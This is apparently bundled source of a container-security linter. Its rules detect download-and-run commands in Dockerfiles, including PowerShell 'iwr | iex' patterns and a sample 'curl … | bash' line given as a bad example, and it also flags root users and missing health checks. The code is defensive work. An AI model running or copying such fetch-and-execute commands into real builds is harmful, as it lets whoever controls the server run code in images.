                if (/[:=,]/.test(word.value) && isRuntimeSocket(sourceOf(word.value)))
                    yield { at: word, message: `${name} starts a container with the runtime's socket` };
        }
    },
}));

// EXTERNAL MODULE: ./lib/documents/needs.js
var needs = __webpack_require__(4739);
;// CONCATENATED MODULE: ./lib/documents/powershell-downloads.js
const runs = String.raw `(?:iex|Invoke-Expression)\b`;
const loads = String.raw `(?:iwr|irm|curl|wget|Invoke-WebRequest|Invoke-RestMethod|DownloadString|Start-BitsTransfer)\b`;
/** `iwr URL | iex`, and `iex ((New-Object Net.WebClient).DownloadString(URL))`; in one statement. */
const powershell_downloads_piped = new RegExp(String.raw `\b${loads}[^;\n]{0,500}\|\s{0,100}${runs}`, 'gi');
const powershell_downloads_nested = new RegExp(String.raw `\b${runs}[^;\n|]{0,300}\b${loads}[^;\n|]{0,300}`, 'gi');
/** Statements of a PowerShell script that run what they download. */
const powershellDownloads = (script, locate) => [powershell_downloads_piped, powershell_downloads_nested]
    .flatMap((form) => [...script.matchAll(form)])
    .map(({ index, 0: text }) => {
    const span = locate({ start: index, end: index + text.trimEnd().length });
    return { span, download: span, program: 'Invoke-Expression', file: null };
});

// EXTERNAL MODULE: ./lib/documents/paths.js
var documents_paths = __webpack_require__(3774);
// EXTERNAL MODULE: ./lib/documents/shell-commands.js
var shell_commands = __webpack_require__(3035);
;// CONCATENATED MODULE: ./lib/documents/shell-options.js
/** The word is the short option, alone or in a cluster (`-fsSLk`); what stands behind an option that takes a value is its value. */
function hasShortOption(word, letter, valued) {
    if (!/^-[A-Za-z0-9#]/.test(word))
        return false;
    for (const char of word.slice(1)) {
        if (char === letter)
            return true;
        if (valued.includes(char))
            return false;
    }
    return false;
}
/** `NAME=value` as `export`, `env` and `ARG` take it. */
function assignmentIn(word) {
    const match = word.value.includes('=') ? /^([A-Za-z_]\w*)=([\s\S]*)$/.exec(word.value) : null;
    return match ? { name: match[1] ?? '', value: match[2] ?? '' } : null;
}
const curlValued = 'AbcCdDeEFhHKmoPQrtTuUwxXyYz';
const localUrl = /^(?:\w+:\/\/)?(?:localhost|127\.\d+\.\d+\.\d+|\[::1\]|0\.0\.0\.0)(?:[:/]|$)/;
/** Every URL of the command names the machine itself, as health checks do. */
function onlyLocal(args) {
    const urls = args.filter(({ value }) => value.includes('://') || localUrl.test(value));
    return urls.length > 0 && urls.every(({ value }) => localUrl.test(value));
}

;// CONCATENATED MODULE: ./lib/documents/shell-downloads.js



const interpreters = /^(?:python[\d.]*|perl|ruby|node|php\d*|deno|bun|lua|pwsh|powershell|iex)$/;
/** Options behind which the program stands on the command line, so that standard input is only data. */
const inlineProgram = /^-(?:[a-z]*[cer]|m|-eval|-command|p)$/;
const verifiers = /^(?:sha\d*sum|shasum|b2sum|md5sum|cksum|rhash|gpgv|cosign|minisign|signify|slsa-verifier)$/;
/** A commit in the address says which text it is. */
const pinnedAddress = /\/[0-9a-f]{40}(?:\/|$)/;
/** More than scripts have. */
const maxFiles = 1000;
const maxPipeline = 100;
const isInterpreter = (name) => (0,shell_commands/* isShell */.H7)(name) || interpreters.test(name);
/** Keeps the names of downloaded files from one script to the next, as RUN after RUN and step after step share a file system. */
class DownloadTracker {
    #files = new Map();
    #installs;
    /** @param installs whether to install a downloaded package counts as to run it, as its scripts do run */
    constructor(installs = false) {
        this.#installs = installs;
    }
    /** A file that came by other means than a command (`ADD https://…`). */
    add(path, span) {
        if (this.#files.size < maxFiles)
            this.#files.set(normalize(path), span);
    }
    read(commands) {
        const runs = [];
        for (const invocation of (0,shell_commands/* everyCommand */.n3)(commands)) {
            if (isVerification(invocation))
                this.#files.clear();
            else if (isDownload(invocation))
                for (const path of outputs(invocation))
                    this.add(path, invocation.command.span);
            else
                runs.push(...(this.#run(invocation) ?? []));
        }
        return runs;
    }
    #run({ command, name, nameWord, args }) {
        const told = (download, file = null) => [{ span: hull(download, command.span), download, program: name, file }];
        if (name === 'eval' || name === 'source' || name === '.' || isInterpreter(name)) {
            const inner = [...args, ...command.redirections.map((redirection) => redirection.target)].flatMap((word) => word.commands);
            const download = inner.find(isUnpinned);
            if (download)
                return told(download.span);
        }
        const script = isInterpreter(name) || name === 'source' || name === '.' ? scriptOf(name, args) : null;
        if (script === 'input') {
            const source = this.#source(command);
            if (source)
                return told(source);
        }
        const path = script === null ? nameWord.value : script === 'input' ? '' : script.value;
        const run = path === '' ? undefined : this.#find(path);
        const installed = this.#installs && !run ? installedFiles(name, args).map((file) => this.#find(file)) : [];
        const known = run ?? installed.find((each) => each !== undefined);
        if (!known)
            return undefined;
        // Told once for each download.
        this.#files.delete(known[0]);
        return [{ span: command.span, download: known[1], program: name, file: run ? path : known[0] }];
    }
    /** The download at the head of the pipeline. */
    #source(command) {
        const queue = [...command.pipedFrom];
        for (let next = queue.pop(), steps = 0; next && steps < maxPipeline; next = queue.pop(), steps++) {
            if (isUnpinned(next))
                return next.span;
            const shown = next.words[0]?.value === 'cat' ? next.words.slice(1).flatMap((word) => this.#find(word.value) ?? []) : [];
            if (shown.length > 0)
                return next.span;
            queue.push(...next.pipedFrom);
        }
        return undefined;
    }
    /** By path; by the last name only where one of the two says no folder. */
    #find(path) {
        const wanted = normalize(path);
        const exact = this.#files.get(wanted);
        if (exact)
            return [wanted, exact];
        for (const [known, span] of this.#files)
            if ((!known.includes('/') || !wanted.includes('/')) && (0,documents_paths/* baseName */.Fl)(known) === (0,documents_paths/* baseName */.Fl)(wanted))
                return [known, span];
        return undefined;
    }
}
/** Package managers that take files, and the words behind which they do. */
const fileInstallers = [
    [/^dpkg$/, /^(?:-i|--install)$/],
    [/^rpm$/, /^(?:-[a-zA-Z]*[iU][a-zA-Z]*|--install|--upgrade)$/],
    [/^(?:apt|apt-get|yum|dnf|microdnf|zypper|pip[\d.]*|npm|gem|snap)$/, /^(?:install|in|i|localinstall)$/],
    // Without the option it takes no package that no key is known for.
    [/^apk$/, /^--allow-untrusted$/],
];
/** Words behind an installer's verb; those that are no downloaded files are not found among them. */
function installedFiles(name, args) {
    const isModule = /^python[\d.]*$/.test(name) && args[0]?.value === '-m';
    const words = (isModule ? args.slice(2) : args).map(({ value }) => value);
    const program = isModule ? (args[1]?.value ?? '') : name;
    const at = words.findIndex((word) => fileInstallers.some(([form, verb]) => form.test(program) && verb.test(word)));
    return at < 0 ? [] : words.slice(at + 1).filter((word) => word !== '' && !word.startsWith('-'));
}
const normalize = (path) => (path.startsWith('./') ? path.replace(/^(?:\.\/)+/, '') : path);
const hull = (a, b) => ({ start: Math.min(a.start, b.start), end: Math.max(a.end, b.end) });
function isUnpinned(command) {
    const invocation = (0,shell_commands/* invocationOf */.QC)(command);
    return invocation !== null && isDownload(invocation);
}
function isDownload({ name, args }) {
    const words = args.map((arg) => arg.value);
    if (['curl', 'wget', 'aria2c', 'fetch', 'gsutil'].includes(name))
        return !words.some((word) => pinnedAddress.test(word));
    return name === 'aws' && /^s3(?:api)?$/.test(words.find((word) => !word.startsWith('-')) ?? '');
}
function isVerification({ name, args }) {
    const words = args.map((arg) => arg.value);
    if (name === 'gpg' || name === 'gpg2')
        return words.some((word) => word === '--verify' || word === '--decrypt');
    if (name === 'openssl')
        return words[0] === 'dgst';
    return verifiers.test(name);
}
/** The word that names the script, `input` for standard input, null where the program stands on the command line. */
function scriptOf(name, args) {
    for (let at = 0; at < args.length; at++) {
        const word = args[at];
        const value = word?.value ?? '';
        if (value === '-' || value === '/dev/stdin' || ((0,shell_commands/* isShell */.H7)(name) && /^-[a-z]*s[a-z]*$/.test(value)))
            return 'input';
        if (value === '--')
            return name.startsWith('php') ? 'input' : (args[at + 1] ?? 'input');
        if (!/^[-+]/.test(value))
            return word ?? 'input';
        if (inlineProgram.test(value) && !((0,shell_commands/* isShell */.H7)(name) && /^-[a-z]*[er]$/.test(value)))
            return null;
        if ((0,shell_commands/* isShell */.H7)(name) && /^[-+][a-z]*[oO]$/.test(value))
            at++;
    }
    return 'input';
}
/** Files that the command writes. */
function outputs({ name, args, command }) {
    const redirected = command.redirections.filter(({ operator }) => /^&?>[>|]?$/.test(operator)).map(({ target }) => target.value);
    const words = args.map((arg) => arg.value);
    if (redirected.length > 0)
        return redirected;
    if (name === 'curl')
        return curlOutputs(words);
    if (name === 'wget' || name === 'aria2c')
        return wgetOutputs(words);
    if (name === 'fetch')
        return [(0,documents_paths/* baseName */.Fl)(words.at(-1) ?? '')].filter(Boolean);
    return copyOutputs(words);
}
/** With a scheme, or with a variable in its place. */
const isAddress = /^(?:\w+:\/\/|\$\{?\w+\}?\S*\/)./;
const addressName = (word) => (0,documents_paths/* baseName */.Fl)(word.replace(/[?#].*$/, ''));
function curlOutputs(words) {
    const files = [];
    for (const [at, word] of words.entries()) {
        const cluster = new RegExp(`^-[^-${curlValued}]*o(.*)$`).exec(word);
        if (word.startsWith('--output='))
            files.push(word.slice('--output='.length));
        else if (word === '--output' || cluster?.[1] === '')
            files.push(words[at + 1] ?? '');
        else if (cluster?.[1])
            files.push(cluster[1]);
        else if (word === '--remote-name' || new RegExp(`^-[^-${curlValued}]*O`).test(word))
            files.push(...words.filter((each) => /^\w+:\/\//.test(each)).map(addressName));
    }
    return files.filter((file) => file !== '' && file !== '-');
}
function wgetOutputs(words) {
    let folder = '';
    for (const [at, word] of words.entries()) {
        const document = /^(?:-[a-zA-Z]*O|--output-document=?|--out=?)(.*)$/.exec(word);
        if (document)
            return [document[1] || words[at + 1] || ''].filter((file) => file !== '-' && file !== '');
        if (word === '-P' || word === '-d')
            folder = `${(words[at + 1] ?? '').replace(/\/$/, '')}/`;
    }
    return words.filter((word) => isAddress.test(word)).map((word) => folder + addressName(word));
}
/** `gsutil cp gs://b/f TO`, `aws s3 cp s3://b/f TO`, `aws s3api get-object --key f TO`. */
function copyOutputs(words) {
    const to = words.at(-1) ?? '';
    const key = words.indexOf('--key');
    const from = key >= 0 ? words[key + 1] : words.find((word) => /^(?:gs|s3):\/\//.test(word));
    if (from === undefined || to === '' || to === from)
        return [];
    if (to === '.' || to === './')
        return [addressName(from)];
    return [to.endsWith('/') ? to + addressName(from) : to];
}

;// CONCATENATED MODULE: ./lib/rules/dockerfile/download-then-run.js







/* harmony default export */ const download_then_run = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/download-then-run',
    severity: 'high',
    threat: 'runtime',
    strictly: 'a downloaded package that is installed, as its scripts run as well.',
    summary: 'Something is downloaded and run without a check',
    why: 'Whoever holds that server, or the address of the file, decides what runs while the image is built, and what is in it.',
    instead: 'Download a fixed version to a file, compare it with a checksum that is written here, then run it. `ADD --checksum=sha256:…` does the first two.',
    references: [docker('reference/dockerfile/#add---checksum', 'ADD --checksum'), cwe(494), attack('T1195.002')],
    peers: ['scorecard:Pinned-Dependencies', 'semgrep:curl-eval', 'poutine:unverified_script_exec'],
    bad: 'FROM debian:13.1\nRUN curl -fsSL https://example.com/install.sh | bash\nUSER 1000\n',
    good: 'FROM debian:13.1\nADD --checksum=sha256:0f5b6b5c0d9d8a2e4a1f3d7b9c1e2f3a4b5c6d7e8f90a1b2c3d4e5f60718293a https://example.com/install.sh /tmp/install.sh\nRUN bash /tmp/install.sh\nUSER 1000\n',
    on: 'dockerfile',
    *check({ document, stages, instructions }, { strict }) {
        // What stands before any FROM is a piece that others are put together from.
        const pieces = [instructions.filter(({ stage }) => stage === null), ...stages.map((stage) => stage.instructions)];
        for (const piece of pieces)
            yield* downloads(piece, document, strict);
    },
}));
function* downloads(instructions, { text }, strict) {
    const tracker = new DownloadTracker(strict);
    for (const outer of instructions) {
        const instruction = outer.onbuild ?? outer;
        const { keyword, words, flags } = instruction;
        if (keyword === 'ADD' && /^https?:/.test(words[0]?.value ?? '') && !flags.some(({ name }) => name === 'checksum'))
            tracker.add(addTarget(words[0]?.value ?? '', words.at(-1)?.value ?? ''), instruction.span);
        if (!['RUN', 'CMD', 'ENTRYPOINT'].includes(keyword))
            continue;
        const runs = (keyword === 'RUN' ? tracker : new DownloadTracker(strict)).read((0,dockerfile_commands/* shellCommands */.h)(instruction));
        runs.push(...inPowershell(instruction));
        for (const { span, download, program, file } of runs)
            yield {
                at: { span },
                // One download is one fact, in whichever stage and however it is run.
                subject: 'Dockerfile',
                identity: withoutVersions(text.slice(download)),
                message: file === null ? `"${program}" runs what is downloaded, without a check` : `"${file}" is downloaded and run without a check`,
                related: file === null ? [] : [{ at: { span: download }, message: 'downloaded here' }],
            };
    }
}
const startsPowershell = (text) => (0,needs/* mayMatch */.B7)(text.toLowerCase(), [['powershell', 'pwsh']]) && /\b(?:powershell|pwsh)\b/i.test(text);
/** With SHELL, or as the program that the default shell starts. */
const inPowershell = ({ script }) => script && (script.language === 'other' || startsPowershell(script.text))
    ? powershellDownloads(script.text, ({ start, end }) => ({ start: script.offset + start, end: script.offset + end }))
    : [];
const addTarget = (address, to) => (to.endsWith('/') ? to + address.slice(address.lastIndexOf('/') + 1) : to);

;// CONCATENATED MODULE: ./lib/documents/dockerfile-lineage.js
/** A chain of stages longer than this is not followed. */
const maxParents = 200;
/** The stage and those that it builds on, nearest first. */
function* lineage(stage) {
    let current = stage;
    for (let depth = 0; current !== null && depth < maxParents; depth++, current = current.parent)
        yield current;
}

;// CONCATENATED MODULE: ./lib/documents/image-users.js
/** Images whose own USER is not root, as their publishers' Dockerfiles or documents say. */
const nonRootImages = [
    {
        holds: 'gcr.io/distroless/',
        name: /^gcr\.io\/distroless\//,
        tag: /nonroot/,
        source: 'https://github.com/GoogleContainerTools/distroless',
    },
    {
        holds: 'cgr.dev/',
        name: /^cgr\.dev\/(?!.*\/wolfi-base$)/,
        source: 'https://edu.chainguard.dev/chainguard/chainguard-images/overview/',
    },
    { holds: 'dhi.io/', name: /^dhi\.io\//, tag: /^(?!.*-(?:dev|sdk))/, source: 'https://docs.docker.com/dhi/' },
    { holds: 'bitnami', name: /^bitnami(?:legacy|secure)?\//, source: 'https://github.com/bitnami/containers' },
    { holds: 'nginxinc/', name: /^nginxinc\/nginx-unprivileged$/, source: 'https://github.com/nginx/docker-nginx-unprivileged' },
    {
        holds: 'redhat.',
        name: /^registry\.(?:access\.)?redhat\.(?:com|io)\/(?:rhel|ubi)\d+\/(?:nodejs|python|ruby|php|perl|openjdk|go-toolset|httpd|nginx|dotnet)-/,
        source: 'https://catalog.redhat.com/software/base-images',
    },
    { holds: 'jenkins/', name: /^jenkins\/(?:jenkins|agent|inbound-agent)$/, source: 'https://github.com/jenkinsci/docker' },
    {
        holds: 'grafana/',
        name: /^grafana\/(?:grafana|grafana-oss|grafana-enterprise|loki)$/,
        source: 'https://github.com/grafana/grafana/blob/main/Dockerfile',
    },
    {
        holds: 'prom',
        name: /^(?:prom|quay\.io\/prometheus)\/(?:prometheus|alertmanager|node-exporter|pushgateway)$/,
        source: 'https://github.com/prometheus/prometheus',
    },
    {
        holds: 'docker.elastic.co/',
        name: /^docker\.elastic\.co\/(?:elasticsearch|kibana|logstash)\//,
        source: 'https://github.com/elastic/dockerfiles',
    },
    { holds: 'keycloak/', name: /^quay\.io\/keycloak\/keycloak$/, source: 'https://github.com/keycloak/keycloak' },
    { holds: 'jupyter/', name: /^(?:quay\.io\/)?jupyter\//, source: 'https://github.com/jupyter/docker-stacks' },
    { holds: 'curlimages/', name: /^curlimages\/curl$/, source: 'https://github.com/curl/curl-container' },
    { holds: 'apache/', name: /^apache\/(?:airflow|superset|kafka)$/, source: 'https://github.com/apache/airflow/blob/main/Dockerfile' },
    {
        holds: 'confluentinc/',
        name: /^confluentinc\/cp-/,
        source: 'https://docs.confluent.io/platform/current/installation/docker/security.html',
    },
    { holds: 'cimg/', name: /^cimg\//, source: 'https://github.com/CircleCI-Public/cimg-base' },
    { holds: 'selenium/', name: /^selenium\//, source: 'https://github.com/SeleniumHQ/docker-selenium' },
    ...['memcached', 'solr', 'varnish'].map((holds) => ({
        holds,
        name: new RegExp(`^${holds}$`),
        source: 'https://github.com/docker-library/docs',
    })),
    {
        holds: 'mcr.microsoft.com/dotnet/',
        name: /^mcr\.microsoft\.com\/dotnet\//,
        tag: /chiseled|distroless/,
        source: 'https://github.com/dotnet/dotnet-docker/blob/main/documentation/distroless.md',
    },
];
/** By its own name: `nonroot`, `non-root`, `rootless`, `unprivileged` in the repository or the tag. */
const saysSo = /non-?root|rootless|unprivileged/;
/** Whether containers of the image are known not to run as root where nothing else says so. */
function runsAsNonRoot({ registry, repository, tag }) {
    const host = registry === null || ['docker.io', 'index.docker.io'].includes(registry.value) ? '' : `${registry.value}/`;
    const name = `${host}${repository.value.startsWith('library/') ? repository.value.slice('library/'.length) : repository.value}`;
    if (saysSo.test(name) || saysSo.test(tag?.value ?? ''))
        return true;
    return nonRootImages.some((image) => name.includes(image.holds) && image.name.test(name) && (image.tag?.test(tag?.value ?? '') ?? true));
}
/** Windows images have users of their own. Those of other programs say in their tags what they are made from. */
const isWindowsImage = ({ registry, repository, tag }) => (registry?.value === 'mcr.microsoft.com' && /(?:^|\/)(?:windows|nanoserver|servercore)/.test(repository.value)) ||
    /^microsoft\/(?:nanoserver|windowsservercore)$/.test(repository.value) ||
    /nanoserver|windowsservercore/.test(tag?.value ?? '');

;// CONCATENATED MODULE: ./lib/documents/dockerfile-user.js



function stageUser(stage, images) {
    let user = users.get(stage);
    if (user === undefined) {
        user = readUser(stage, images);
        users.set(stage, user);
    }
    return user;
}
/** Stages can be alternatives of many others. */
const users = new WeakMap();
function readUser(stage, images) {
    for (const each of lineage(stage)) {
        const instruction = each.instructions.findLast(({ keyword, words }) => keyword === 'USER' && words.length > 0);
        if (instruction) {
            const { value, complete } = instruction.expand(instruction.arguments);
            return complete ? { kind: 'user', name: value.split(':')[0] ?? '', instruction } : { kind: 'unknown' };
        }
        if (each.alternatives.length > 0)
            return commonUser(each.alternatives.map((alternative) => stageUser(alternative, images)));
        if (each.parent === null)
            return imageUser(each, images);
    }
    return { kind: 'unknown' };
}
/** Where the platform chooses the stage: what is so for each of them. */
function commonUser(all) {
    const [first = { kind: 'unknown' }] = all;
    const isCommon = first.kind === 'user' ? all.every((user) => user.kind === 'user' && isRoot(user.name)) : all.every(({ kind }) => kind === first.kind);
    return isCommon ? first : { kind: 'unknown' };
}
const imagesByPlace = new WeakMap();
function imageUser(stage, images) {
    if (stage.resolved.value.toLowerCase() === 'scratch')
        return { kind: 'unset' };
    const byPlace = imagesByPlace.get(images) ?? new Map(images.filter(({ place }) => place === 'from').map((each) => [each.span.start, each]));
    imagesByPlace.set(images, byPlace);
    const image = byPlace.get(stage.baseImage?.span.start ?? -1);
    if (!image)
        return { kind: 'unknown' };
    if (runsAsNonRoot(image) || isWindowsImage(image))
        return { kind: 'non-root' };
    // Which image it is decides which user it has.
    return { kind: image.unresolved && /[${]/.test(image.repository.value) ? 'unknown' : 'unset' };
}
const isRoot = (user) => ['root', '0', 'containeradministrator'].includes(user.toLowerCase()) || (user.startsWith('00') && /^0+$/.test(user));
const dropping = /^(?:gosu|su-exec|setpriv|runuser|chpst|s6-setuidgid)$/;
/** ENTRYPOINT or CMD starts the program as another user with `gosu` or its like. */
const dropsPrivileges = (stage) => stage.instructions
    .filter(({ keyword }) => keyword === 'ENTRYPOINT' || keyword === 'CMD')
    .flatMap(dockerfile_commands/* invocations */.O)
    .some(({ name, wrappers }) => dropping.test(name) || wrappers.some((word) => dropping.test(word.value.split('/').at(-1) ?? '')));

// EXTERNAL MODULE: ./lib/documents/workflow-shell.js
var workflow_shell = __webpack_require__(9666);
;// CONCATENATED MODULE: ./lib/documents/publishing.js


/** Actions that publish, by each action's documentation; some only with an input. */
const publishing_actions = new Map([
    ['pypa/gh-action-pypi-publish', ['pypi']],
    ['rubygems/release-gem', ['rubygems']],
    ['js-devtools/npm-publish', ['npm']],
    ['docker/build-push-action', ['image registry', 'push']],
    ['docker/bake-action', ['image registry', 'push']],
    ['redhat-actions/push-to-registry', ['image registry']],
    ['softprops/action-gh-release', ['other']],
    ['ncipollo/release-action', ['other']],
    ['actions/create-release', ['other']],
    ['actions/upload-release-asset', ['other']],
    ['svenstaro/upload-release-action', ['other']],
    ['marvinpinto/action-automatic-releases', ['other']],
    ['goreleaser/goreleaser-action', ['other']],
    ['changesets/action', ['npm', 'publish']],
    ['cycjimmy/semantic-release-action', ['other']],
    ['helm/chart-releaser-action', ['other']],
    ['actions/deploy-pages', ['other']],
    ['jamesives/github-pages-deploy-action', ['other']],
    ['peaceiris/actions-gh-pages', ['other']],
]);
function publications(step) {
    const [to, input] = publishing_actions.get(step.reference?.name ?? '') ?? [];
    if (to !== undefined && step.uses) {
        const value = input === undefined ? 'true' : (step.at('with', input)?.string ?? 'false');
        return value === 'false' || value === '' ? [] : [{ to, span: step.uses.span }];
    }
    return (0,workflow_shell/* stepInvocations */.Wz)(step).flatMap((invocation) => {
        const registry = publishedBy(invocation);
        return registry ? [{ to: registry, span: invocation.command.span }] : [];
    });
}
/** Commands by the program and the words that follow it, options left out. */
const commands = [
    [/^(?:twine|python[\d.]*(?: -m)? twine|pipx run twine\S*|uvx twine\S*) upload\b/, 'pypi'],
    [/^(?:poetry|hatch|flit|pdm|uv) publish\b/, 'pypi'],
    [/^(?:(?:bunx|npx) )?(?:npm|pnpm|bun) publish\b/, 'npm'],
    [/^yarn (?:npm )?publish\b/, 'npm'],
    [/^(?:bundle exec )?gem push\b/, 'rubygems'],
    [/^cargo publish\b/, 'crates.io'],
    [/^(?:dotnet )?nuget(?:\.exe)? push\b/i, 'nuget'],
    [/^(?:docker|podman|buildah|nerdctl)(?: image)? push\b/, 'image registry'],
    [/^(?:crane|skopeo) (?:push|copy)\b/, 'image registry'],
    [/^ko (?:build|publish|apply|resolve)\b/, 'image registry'],
    [/^gh release (?:create|upload)\b/, 'other'],
    [/^(?:\.\/)?gradlew? .*\bpublish/, 'other'],
    [/^(?:\.\/)?mvnw? .*\bdeploy\b/, 'other'],
    [/^(?:npx )?semantic-release\b/, 'other'],
];
/** One of them stands in each of the commands. */
const verbs = [['push', 'publish', 'upload', 'release', 'deploy', 'copy', 'ko ']];
function publishedBy({ name, args }) {
    const values = args.map(({ value }) => value);
    if (values.includes('--dry-run') || values.includes('--help'))
        return null;
    if (['docker', 'podman', 'nerdctl'].includes(name) && values.some((value) => value === '--push' || value === '--push=true'))
        return 'image registry';
    const words = [name, ...values.filter((value) => !value.startsWith('-'))].join(' ');
    return (0,needs/* mayMatch */.B7)(words.toLowerCase(), verbs) ? (commands.find(([form]) => form.test(words))?.[1] ?? null) : null;
}

;// CONCATENATED MODULE: ./lib/estate/command-build.js
/** Options of `docker build` and `podman build` that take no value; all others have one. */
const flags = /^--(?:no-cache|pull|push|load|quiet|squash|rm|force-rm|compress|layers|disable-compression|check|debug|tls-verify|help)$|^-[qD]+$/;
/** Null for any other command. */
function commandBuild({ name, args }) {
    const at = args.findIndex(({ value }) => value === 'build' || value === 'bud');
    const builder = /^(?:docker|podman|nerdctl|buildah)$/.test(name);
    if (!builder || at < 0 || !args.slice(0, at).every(({ value }) => /^(?:buildx|image|builder)$/.test(value)))
        return null;
    const options = [];
    let context = null;
    const words = args.slice(at + 1).map(({ value, literal }) => ({ value, text: literal ? value : null }));
    for (let index = 0; index < words.length; index++) {
        const { value, text } = words[index] ?? { value: '', text: null };
        const equals = value.indexOf('=');
        if (!value.startsWith('-'))
            context = text;
        else if (value.startsWith('--') && equals > 0) {
            options.push({ name: value.slice(0, equals), value: text === null ? null : value.slice(equals + 1) });
        }
        else if (!flags.test(value))
            options.push({ name: value, value: words[++index]?.text ?? null });
    }
    const valuesOf = (...names) => options.flatMap((option) => (names.includes(option.name) ? [option.value] : []));
    return {
        file: valuesOf('-f', '--file').at(-1),
        context,
        target: valuesOf('--target').at(-1),
        images: valuesOf('-t', '--tag').flatMap((image) => image ?? []),
    };
}

;// CONCATENATED MODULE: ./lib/estate/file-path.js
/** The folder of a file; empty for the root. */
const folderOf = (path) => path.slice(0, Math.max(0, path.lastIndexOf('/')));
/** The path that parts name one below the other; null where one of them is not known, is absolute or a URL, or leaves the repository. */
function fileBelow(...parts) {
    const names = [];
    for (const part of parts) {
        if (part === null || /^[/~\\]|^\w+:|[${}]/.test(part))
            return null;
        for (const name of part.split('/')) {
            if (name === '..' && names.pop() === undefined)
                return null;
            if (name !== '..' && name !== '.' && name !== '')
                names.push(name);
        }
    }
    return names.join('/');
}

;// CONCATENATED MODULE: ./lib/estate/image-builds.js







const known = new WeakMap();
/** Builds of Compose services, Skaffold artifacts and workflows; found once for an estate. */
function imageBuilds(estate) {
    const found = known.get(estate) ??
        estate.documents.flatMap((document) => [
            ...document.grains('composeService').flatMap(composeBuild),
            ...(document.kind === 'skaffold' ? document.grains('yaml').flatMap(({ tree }) => skaffoldBuilds(tree.root, document.text.path)) : []),
            ...document.grains('step').flatMap(stepBuilds),
        ]);
    known.set(estate, found);
    return found;
}
function image_builds_plain(node) {
    if (node === undefined || node.value === null)
        return undefined;
    return node.kind !== 'scalar' || node.templated || node.string.includes('${{') ? null : node.string;
}
const or = (value, otherwise) => (value === undefined ? otherwise : value);
const lower = (target) => or(target, '')?.toLowerCase() ?? null;
function composeBuild(service) {
    const build = service.at('build');
    if (build === undefined || build.at('dockerfile_inline') !== undefined)
        return [];
    const text = (node) => {
        if (node?.kind !== 'scalar' || typeof image_builds_plain(node) !== 'string')
            return image_builds_plain(node);
        const { value, complete } = (0,compose_interpolate/* interpolate */.GW)(node, service.document);
        return complete ? value : null;
    };
    const context = build.kind === 'scalar' ? text(build) : text(build.at('context'));
    const user = text(service.at('user'));
    return [
        {
            by: 'compose',
            // Where the context is given by another file, that one says which it is.
            dockerfile: fileBelow(folderOf(service.document.text.path), context === undefined && service.partial ? null : or(context, '.'), or(text(build.at('dockerfile')), 'Dockerfile')),
            target: lower(text(build.at('target'))),
            images: [text(service.at('image')) ?? []].flat(),
            used: user === undefined || (user !== null && isRoot(user.split(':')[0] ?? '')),
        },
    ];
}
/** `build.artifacts`; those of a profile are for whoever asks for it. */
function skaffoldBuilds(root, path) {
    return (0,yaml_values/* mapsIn */.nf)(root?.at('build', 'artifacts')).map((artifact) => ({
        by: 'skaffold',
        dockerfile: fileBelow(folderOf(path), or(image_builds_plain(artifact.at('context')), '.'), or(image_builds_plain(artifact.at('docker', 'dockerfile')), 'Dockerfile')),
        target: lower(image_builds_plain(artifact.at('docker', 'target'))),
        images: [image_builds_plain(artifact.at('image')) ?? []].flat(),
        used: true,
    }));
}
function stepBuilds(step) {
    if (step.reference?.name === 'docker/build-push-action') {
        const input = (name) => image_builds_plain(step.at('with', name));
        return [
            {
                by: 'workflow',
                // A file is looked for from the root of the work tree, not from the context.
                dockerfile: dockerfileOf('', input('file'), or(input('context'), '.')),
                target: lower(input('target')),
                images: (input('tags') ?? '').split(/[\n,]/).flatMap((tag) => tag.trim() || []),
                used: publications(step).length > 0,
            },
        ];
    }
    const builds = (0,workflow_shell/* stepInvocations */.Wz)(step).flatMap((invocation) => commandBuild(invocation) ?? []);
    if (builds.length === 0)
        return [];
    const folder = or(image_builds_plain(step.at('working-directory') ?? step.job?.at('defaults', 'run', 'working-directory')), '');
    const used = (step.job?.steps ?? [step]).some((other) => publications(other).some(({ to }) => to === 'image registry'));
    return builds.map(({ file, context, target, images }) => ({
        by: 'workflow',
        dockerfile: dockerfileOf(folder, file, context),
        target: lower(target),
        images,
        used,
    }));
}
const dockerfileOf = (folder, file, context) => file === undefined ? fileBelow(folder, context, 'Dockerfile') : fileBelow(folder, file);

;// CONCATENATED MODULE: ./lib/estate/built-stages.js

/** What a file must hold to say which stage is built. */
const mentionsBuilds = /\bbuild\b/;
/**
 * True for the stage that a Compose service, a Skaffold artifact or a publishing workflow names as its target, and for the last one unless all that is
 * known to build the file, a publishing workflow among them, names another.
 */
function isBuiltStage(stage, estate) {
    const { path } = stage.document.text;
    const builds = imageBuilds(estate).filter(({ dockerfile }) => dockerfile === path);
    if (!stage.final)
        return stage.name !== null && builds.some(({ target, used }) => used && target === stage.name);
    const stages = stage.document.grains('stage').filter((other) => !other.final);
    const namesAnother = (target) => target !== null && stages.some(({ name }) => name === target);
    const mayBeOfThis = imageBuilds(estate).filter(({ dockerfile }) => dockerfile === path || dockerfile === null);
    return !builds.some(({ by, used }) => used && by === 'workflow') || !mayBeOfThis.every(({ target }) => namesAnother(target));
}

;// CONCATENATED MODULE: ./lib/rules/dockerfile/healthcheck-missing.js




const healthcheck = ({ instructions }) => instructions.findLast(({ keyword }) => keyword === 'HEALTHCHECK');
/* harmony default export */ const healthcheck_missing = ((0,rule/* defineRule */.Km)({
    id: 'dockerfile/healthcheck-missing',
    severity: 'low',
    strict: true,
    threat: 'container',
    summary: 'The image has no health check',
    why: 'Docker and Swarm go on sending work to a container whose program hangs. Kubernetes has probes of its own.',
    instead: 'Add `HEALTHCHECK CMD …`.',
    references: [docker('reference/dockerfile/#healthcheck', 'HEALTHCHECK')],
    peers: ['hadolint:DL3057', 'checkov:CKV_DOCKER_2', 'trivy:DS-0026', 'kics:healthcheck_instruction_missing', 'dockle:CIS-DI-0006'],
    bad: 'FROM debian:13.1\nUSER 1000\nCMD ["/app"]\n',
    good: 'FROM debian:13.1\nUSER 1000\nHEALTHCHECK CMD ["/app", "health"]\nCMD ["/app"]\n',
    on: 'stage',
    guard: healthcheck,
    excusedBy: { mentions: mentionsBuilds, excuses: (stage, estate) => !isBuiltStage(stage, estate) },
    *check(stage) {
        const { baseImage: at, subject, final } = stage;
        if (!at || (!final && stage.name === null) || stage.document.partial)
            return;
        if ([...lineage(stage)].some(healthcheck))
            return;
        const about = final ? { subject: 'Dockerfile' } : { subject, suspected: true };
        yield { ...about, at, field: 'HEALTHCHECK', identity: '', message: `${subject} has no HEALTHCHECK` };
    },
}));

